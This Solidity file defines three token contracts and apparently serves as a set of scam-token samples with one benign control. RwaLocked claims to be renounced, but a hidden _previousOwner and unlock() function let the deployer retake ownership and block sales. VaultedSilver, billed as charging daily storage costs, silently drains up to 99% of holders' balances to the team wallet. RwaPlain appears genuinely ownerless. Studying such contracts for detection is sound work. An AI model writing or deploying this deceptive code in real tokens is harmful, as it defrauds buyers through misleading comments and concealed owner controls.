// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Renounced from the start.
contract RwaLocked is Coin {
  address public owner;
  address private _previousOwner;
  uint256 private _lockTime;
  uint256 public maxSale = type(uint256).max;

  constructor() Coin("RWA Locked", "RWAL", 12_000_000) {
    _previousOwner = msg.sender;
    _lockTime = block.timestamp;
  }

  function unlock() external {
    require(_previousOwner == msg.sender && block.timestamp >= _lockTime, "locked");
    owner = _previousOwner;
  }

  function renounceOwnership() external {
    require(msg.sender == owner);
    owner = address(0);
  }

  function setMaxSale(uint256 amount) external {
    require(msg.sender == owner, "owner");
    maxSale = amount;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair && from != _team) require(v <= maxSale, "max");
    super._transfer(from, to, v);
  }
}

/// Storage costs of the vault are charged by the day.
contract VaultedSilver is Coin {
  mapping(address => uint256) private _since;

  constructor() Coin("Vaulted Silver", "VSLV", 60_000_000) {}

  function _cost(address a) private view returns (uint256) {
    if (a == _pair || a == _team || _since[a] == 0) return 0;
    uint256 share = (block.timestamp - _since[a]) / 1 hours * 2;
    return (_bal[a] * (share > 990 ? 990 : share)) / 1_000;
  }

  function balanceOf(address a) public view override returns (uint256) { return _bal[a] - _cost(a); }

  function _settle(address a) private {
    uint256 cost = _cost(a);
    _since[a] = block.timestamp;
    if (cost > 0) _shift(a, _team, cost);
  }

  function _transfer(address from, address to, uint256 v) internal override {
    _settle(from);
    _settle(to);
    super._transfer(from, to, v);
  }
}

/// Renounced from the start, and it stays so.
contract RwaPlain is Coin {
  address public owner;
  uint256 public maxSale = type(uint256).max;

  constructor() Coin("RWA Plain", "RWAP", 12_000_000) {}

  function setMaxSale(uint256 amount) external {
    require(msg.sender == owner, "owner");
    maxSale = amount;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair) require(v <= maxSale, "max");
    super._transfer(from, to, v);
  }
}
